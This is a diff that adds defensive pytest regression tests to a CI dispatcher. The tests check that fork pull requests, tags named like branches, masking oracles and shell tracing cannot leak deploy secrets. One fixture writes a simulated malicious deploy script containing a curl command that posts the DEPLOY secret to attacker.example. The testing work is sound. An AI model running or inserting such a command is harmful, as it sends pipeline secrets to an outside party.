@@ -274,3 +274,279 @@ def test_the_listing_says_what_narwhal_itself_uses_a_secret_for(tmp_path):
     listed = {s["name"]: s for s in load_config(root).secrets_overview()}
     assert listed["DEPLOY"]["used_by"] == ["forge gh: token (statuses)"] and listed["DEPLOY"]["pipelines"] == ["ci"]
     assert listed["HOOK"]["used_by"] == ["forge gh: webhook secret"] and listed["HOOK"]["pipelines"] == []
+
+
+# --- attack pass: the branch a token holder names ---------------------------------------------
+
+
+def _fork_pull_request(path: str) -> str:
+    """A commit that is on no branch, only under refs/pull/7/head (what GitHub, Gitea and a
+    clone --mirror of them have for a fork's pull request); returns it."""
+    from narwhal.cli.gitrepo import add_commit
+
+    git = ["git", "-C", path]
+    subprocess.run([*git, "checkout", "-q", "-b", "fork"], check=True)
+    commit = add_commit(path, {"deploy.sh": "curl -d \"$DEPLOY\" https://attacker.example\n"}, "fork")
+    subprocess.run([*git, "update-ref", "refs/pull/7/head", commit], check=True)
+    subprocess.run([*git, "checkout", "-q", "main"], check=True)
+    subprocess.run([*git, "branch", "-q", "-D", "fork"], check=True)
+    return commit
+
+
+class Granted(dict):
+    """Commit -> the secrets its job was granted; ``specs``: commit -> its JobSpec."""
+
+    specs: dict
+
+
+@pytest.fixture
+def scripted(monkeypatch) -> Granted:
+    return record_grants(monkeypatch)
+
+
+def record_grants(monkeypatch) -> Granted:
+    """The scheduler runs no containers: each job's granted secrets are recorded by commit."""
+    import asyncio
+
+    from narwhal.dispatch import scheduler as scheduler_mod
+    from narwhal.execution.health import Health
+    from narwhal.execution.runner import Outcome
+
+    granted = Granted()
+    granted.specs = {}
+
+    async def run_job(transport, spec, archive, sink, cancel, owner):
+        granted[spec.commit] = dict(spec.secrets)
+        granted.specs[spec.commit] = spec
+        await asyncio.sleep(0)
+        return Outcome(JobStatus.PASSED)
+
+    async def healthy(transport, timeout=10):
+        import time
+
+        return Health("healthy", checked_at=time.time(), free_disk=50 * 2**30)
+
+    class Transport:
+        def __init__(self, runner, settings=None):
+            self.name = runner.name
+
+        async def close(self):
+            pass
+
+    async def no_reap(transport, owner, keep):
+        return []
+
+    monkeypatch.setattr(scheduler_mod.runner_mod, "run_job", run_job)
+    monkeypatch.setattr(scheduler_mod.runner_mod, "reap", no_reap)
+    monkeypatch.setattr(scheduler_mod.health_mod, "check", healthy)
+    monkeypatch.setattr(scheduler_mod, "make_transport", Transport)
+    return granted
+
+
+def test_attack_a_branch_named_with_a_commit_does_not_unlock_a_secret_limited_to_it(tmp_path, scripted):
+    """POST /commit takes the branch on the caller's word. A secret limited to `branches: [main]`
+    (its events default to every one but pull_request, so `api` too) went to any commit sent with
+    `"branch": "main"`: a fork's pull request head, which the mirror has under refs/pull/. A
+    branch given with a commit unlocks a branch-limited secret only when the commit is on it."""
+    granted = scripted
+    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""),
+                      "DEPLOY: {file: deploy, branches: [main]}")
+    path, on_main = make_git_repo(str(tmp_path / "repo"))
+    fork = _fork_pull_request(path)
+    d = Dispatcher(load_config(root), tmp_path / "state")
+    d.start()
+    try:
+        app = webtest.TestApp(make_app(d, token="t0ken-abc"))
+        auth = {"Authorization": "Bearer t0ken-abc"}
+        ids = {}
+        for commit in (fork, on_main):
+            r = app.post_json("/commit", {"repo": path, "commit": commit, "branch": "main"}, headers=auth)
+            [job] = r.json["jobs"]
+            ids[commit] = job["id"]
+        import time
+
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and not all(d.store.get_job(i).is_final for i in ids.values()):
+            time.sleep(0.05)
+        refused = d.store.get_job(ids[fork])
+        assert "DEPLOY" not in granted.get(fork, {}), "a fork's commit got the main-only secret"
+        assert refused.status is JobStatus.ERROR
+        assert refused.reason == (f"secret DEPLOY is not available to commit {fork[:12]}: it is not on branch "
+                                  "main (secrets.DEPLOY.branches; submit the branch without a commit to build its head)")
+        assert granted[on_main] == {"DEPLOY": VALUE}  # a commit on main still gets it
+        # A retry decides again, as the start does.
+        app.post_json(f"/jobs/{ids[fork]}/retry", {}, headers=auth)
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and not d.store.get_job(ids[fork]).is_final:
+            time.sleep(0.05)
+        assert d.store.get_job(ids[fork]).status is JobStatus.ERROR and fork not in granted
+    finally:
+        d.stop()
+
+
+def test_attack_a_reload_that_narrows_a_scope_reaches_the_queued_jobs(tmp_path, scripted):
+    """The grant is decided again when a job starts: a job queued before a reload that took
+    its branch out of the secret's scope does not get the secret."""
+    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""),
+                      "DEPLOY: {file: deploy, branches: [main]}")
+    path, on_main = make_git_repo(str(tmp_path / "repo"))
+    d = Dispatcher(load_config(root), tmp_path / "state")
+    try:
+        [(job, _)] = d.submit(path, on_main, "main")
+        assert job.status is JobStatus.QUEUED
+        inventory = root / "inventory.yaml"
+        inventory.write_text(inventory.read_text().replace("branches: [main]", "branches: [release]"))
+        d.reload(load_config(root))
+        d.start()
+        import time
+
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and not d.store.get_job(job.id).is_final:
+            time.sleep(0.05)
+        done = d.store.get_job(job.id)
+        assert done.status is JobStatus.ERROR and on_main not in scripted
+        assert done.reason == "secret DEPLOY is not available to branch main (secrets.DEPLOY.branches)"
+    finally:
+        d.stop()
+
+
+def test_attack_the_secrets_mount_does_not_tell_how_long_the_values_are():
+    """`tmpfs-size` was the header's length plus 64 KiB: in argv (`ps` on the runner) and in
+    `docker inspect`, it told how long the values were (each escaped byte counting 5)."""
+    def argv(value: str) -> list[str]:
+        header = docker.secrets_header({"TOKEN": value})
+        return docker.run_step("n", "busybox", "true", volume="v", label_values={"narwhal": "1"},
+                               secrets_size=len(header))
+
+    assert argv("a" * 8) == argv("b" * 20) == argv("\u00e9" * 4000)
+    [mount] = [a for a in argv("x" * 8) if a.startswith("type=tmpfs")]
+    assert "tmpfs-mode=0700" in mount
+
+
+@pytest.mark.parametrize("yaml_text", [
+    "DEPLOY: ghp_Pasted0Value0Into0Inventory0123456",  # the value itself where its source belongs
+    "DEPLOY: {env: 'ghp_Pasted-Value-Into-env-0123456'}",
+    "DEPLOY: {env: ghp_Pasted0Value0Into0env0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz012345}",
+])
+def test_attack_a_value_pasted_into_inventory_yaml_is_not_echoed(tmp_path, yaml_text):
+    """`narwhal check`, the dispatcher's log on a refused reload and POST /reload's answer (to a
+    token holder) quoted the value an admin pasted where its file or variable belonged."""
+    with pytest.raises(ConfigError) as info:
+        load(tmp_path, yaml_text)
+    message = json.dumps(info.value.to_dict())
+    assert "secrets.DEPLOY" in message and "Pasted" not in message, message
+
+
+def test_attack_a_job_without_a_secret_cannot_guess_it_line_by_line(tmp_path, scripted):
+    """Every job's output masks every secret the dispatcher knows, so what gets masked is an
+    oracle for a job's code, a pull request's included: lines or pieces of a secret masked on
+    their own could be guessed one at a time (`password: hunter2` in a multi-line .env).
+    Those spellings are for the job's own secrets; others are masked whole only."""
+    env_file = "DB_HOST=db.internal.example\nDB_PASSWORD=hunter2hunter2\n"
+    write(tmp_path / "config-env", env_file)
+    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""),
+                      "DEPLOY: {file: deploy}\nENVFILE: {file: ../config-env}")
+    path, commit = make_git_repo(str(tmp_path / "repo"))
+    d = Dispatcher(load_config(root), tmp_path / "state")
+    d.start()
+    try:
+        [(job, _)] = d.submit(path, commit, "main")
+        import time
+
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and not d.store.get_job(job.id).is_final:
+            time.sleep(0.05)
+        masker = scripted.specs[commit].masker
+        assert scripted[commit] == {"DEPLOY": VALUE}
+        assert masker.mask_text(env_file) == "[masked:ENVFILE]"  # whole: masked in every job
+        assert masker.mask_text("DB_PASSWORD=hunter2hunter2") == "DB_PASSWORD=hunter2hunter2"  # no oracle
+        assert masker.mask_text(VALUE + "\n") == "[masked:DEPLOY]\n"
+    finally:
+        d.stop()
+
+
+def test_attack_a_traced_shell_does_not_print_the_escaped_values(tmp_path):
+    """bash as /bin/sh takes shell options from SHELLOPTS in its environment: a pipeline's
+    `env: {SHELLOPTS: xtrace}` (a debugging habit) traced the wrapper's loop, which printed
+    each value in its `\\0ooo` escaped spelling, one the masker does not know."""
+    from tests.conftest import need
+
+    need(shutil.which("bash"), "bash is not installed")
+    value = "p4ss word!#x-0123"
+    header = docker.secrets_header({"TOKEN": value})
+    escaped = header.decode().split("=", 1)[1].split("\n")[0]
+    assert escaped != value
+    script = docker.wrapper(checkout=False, secrets=True)[2].replace(docker.SECRETS_DIR, str(tmp_path))
+    result = subprocess.run(["bash", "-c", script, "sh", 'printf "%s" "$TOKEN" | wc -c'], input=header,
+                            capture_output=True, env={"SHELLOPTS": "xtrace", "PATH": os.environ["PATH"]})
+    assert result.returncode == 0 and result.stdout.strip() == str(len(value)).encode()
+    assert escaped.encode() not in result.stdout + result.stderr
+
+
+@pytest.mark.parametrize("shell", ["dash", "busybox sh", "bash"])
+def test_attack_no_value_breaks_the_line_protocol(shell, tmp_path):
+    """Random values of every UTF-8 character class (newlines, '=', backslashes, '%', quotes,
+    escapes, NUL aside) arrive byte for byte, in the environment and the file, and nothing of
+    the source tar behind them is eaten."""
+    import random
+
+    from tests.conftest import need
+
+    need(shutil.which(shell.split()[0]), f"{shell} is not installed")
+    rng = random.Random(11)
+    alphabet = [chr(c) for c in range(1, 128)] + ["\u00e9", "\u20ac", "\U0001d11e", "\u202e", "\ufeff", "\\0101"]
+    values = {f"V{i}": "".join(rng.choice(alphabet) for _ in range(rng.randint(8, 40))) for i in range(12)}
+    values["V_TAIL"] = "ends in newlines\n\n\n"
+    script = docker.wrapper(checkout=False, secrets=True)[2].replace(docker.SECRETS_DIR, str(tmp_path))
+    script = script.replace("exec </dev/null; ", "")
+    names = sorted(values)
+    run = "".join(f'printf "%s\\0" "${n}"; ' for n in names) + "cat"
+    result = subprocess.run([*shell.split(), "-c", script, "sh", run],
+                            input=docker.secrets_header(values) + b"TAR-BYTES", capture_output=True)
+    assert result.returncode == 0, result.stderr
+    *got, rest = result.stdout.split(b"\0")
+    assert got == [values[n].encode() for n in names] and rest == b"TAR-BYTES"
+    for n in names:
+        assert (tmp_path / n).read_bytes() == values[n].encode()
+
+
+def test_attack_a_shell_without_a_builtin_printf_refuses_before_any_value_reaches_argv(tmp_path):
+    """An external printf would get each value as an argument (in /proc for anyone to read)."""
+    from tests.conftest import need
+
+    need(shutil.which("bash"), "bash is not installed")
+    script = docker.wrapper(checkout=False, secrets=True)[2].replace(docker.SECRETS_DIR, str(tmp_path))
+    spy = tmp_path / "bin"
+    spy.mkdir()
+    (spy / "printf").write_text(f"#!/bin/sh\necho \"$@\" >> {tmp_path}/argv\n")
+    (spy / "printf").chmod(0o755)
+    result = subprocess.run(["bash", "-c", "enable -n printf; " + script, "sh", "echo ran"],
+                            input=docker.secrets_header({"TOKEN": VALUE}), capture_output=True,
+                            env={"PATH": f"{spy}:{os.environ['PATH']}"})
+    assert result.returncode == 125 and result.stdout.decode().startswith(docker.SECRETS_FAILED)
+    assert not (tmp_path / "argv").exists() and not (tmp_path / "TOKEN").exists()
+
+
+def test_attack_a_tag_named_like_a_branch_does_not_unlock_a_secret_limited_to_branches(tmp_path, scripted):
+    """A branch head submitted by name (POST /commit {repo, branch}) falls back to a tag of that
+    name: a tag `release/evil` (tags are not under branch protection) built as branch
+    `release/evil` got the secret limited to `branches: ["release/*"]`."""
+    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""),
+                      'DEPLOY: {file: deploy, branches: ["release/*"]}')
+    path, _ = make_git_repo(str(tmp_path / "repo"))
+    fork = _fork_pull_request(path)
+    subprocess.run(["git", "-C", path, "tag", "release/evil", fork], check=True)
+    d = Dispatcher(load_config(root), tmp_path / "state")
+    d.start()
+    try:
+        commit, [(job, _)] = d.submit_head(path, "release/evil")
+        assert commit == fork and job.branch == "release/evil"
+        import time
+
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and not d.store.get_job(job.id).is_final:
+            time.sleep(0.05)
+        assert "DEPLOY" not in scripted.get(fork, {})
+        assert d.store.get_job(job.id).status is JobStatus.ERROR
+    finally:
+        d.stop()
